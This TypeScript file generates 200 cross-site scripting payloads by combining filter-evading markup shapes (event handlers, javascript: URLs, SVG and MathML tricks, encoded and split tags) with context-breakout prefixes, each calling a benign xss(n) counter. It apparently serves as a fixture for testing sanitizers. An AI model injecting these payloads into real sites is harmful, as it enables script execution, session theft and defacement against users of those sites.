/** What a payload runs: reports its number to the page's own counter. */
const run = (at: number): string => `xss(${at})`;

/** Ways in which markup has been made to run, by what carries them. `$` is the code. */
const SHAPES = [
  '<script>$</script>',
  '<script src="data:text/javascript,$"></script>',
  '<ScRiPt>$</sCrIpT>',
  '<scr<script>ipt>$</scr</script>ipt>',
  '<img src=x onerror=$>',
  '<img src="x" onerror="$">',
  '<img src=x onerror&#61;$>',
  '<img src=x:x onerror\n=\n$>',
  '<img/src=x/onerror=$>',
  '<IMG SRC="jav&#x09;ascript:$">',
  '<img srcset="x 1x" onerror=$>',
  '<image src=x onerror=$>',
  '<svg onload=$>',
  '<svg/onload=$//',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:$"><text y=20>press</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=$></svg>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=$></foreignObject></svg>',
  '<svg><set attributeName=href to=javascript:$ /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=$>',
  '<math><mi xlink:href="javascript:$">press</mi></math>',
  '<iframe src="javascript:parent.$"></iframe>',
  '<iframe srcdoc="<script>parent.$</script>"></iframe>',
  '<object data="javascript:$"></object>',
  '<embed src="javascript:$">',
  '<a href="javascript:$">press</a>',
  '<a href=" java\tscript:$">press</a>',
  '<a href="&#106;avascript:$">press</a>',
  '<a href="data:text/html,<script>$</script>">press</a>',
  '<a href="vbscript:$">press</a>',
  '<form action="javascript:$"><button>press</button></form>',
  '<button formaction="javascript:$">press</button>',
  '<input autofocus onfocus=$>',
  '<select autofocus onfocus=$><option>1</option></select>',
  '<textarea autofocus onfocus=$></textarea>',
  '<details open ontoggle=$><summary>1</summary></details>',
  '<video src=x onerror=$></video>',
  '<video><source onerror=$></video>',
  '<audio src=x onerror=$>',
  '<body onload=$>',
  '<marquee onstart=$>1</marquee>',
  '<div style="animation:spin 1s" onanimationstart=$>1</div>',
  '<div style="background:url(javascript:$)">1</div>',
  '<link rel=stylesheet href="javascript:$">',
  '<meta http-equiv=refresh content="0;url=javascript:$">',
  '<base href="javascript:$//">',
  '<template><img src=x onerror=$></template><style><img src=x onerror=$></style>',
  '<noscript><p title="</noscript><img src=x onerror=$>"></noscript>',
  '{{constructor.constructor("$")()}}${$}<%= $ %>javascript:$',
];

/** Contexts a payload may have to break out of first. */
const CONTEXTS = ['', '">', "'>", '</textarea></title></style>-->'];

/** 200 texts that would run `xss(n)` where a page let them. */
export const PAYLOADS: readonly string[] = SHAPES.flatMap((shape) =>
  CONTEXTS.map((context) => context + shape),
).map((payload, at) => payload.replaceAll('$', run(at)));
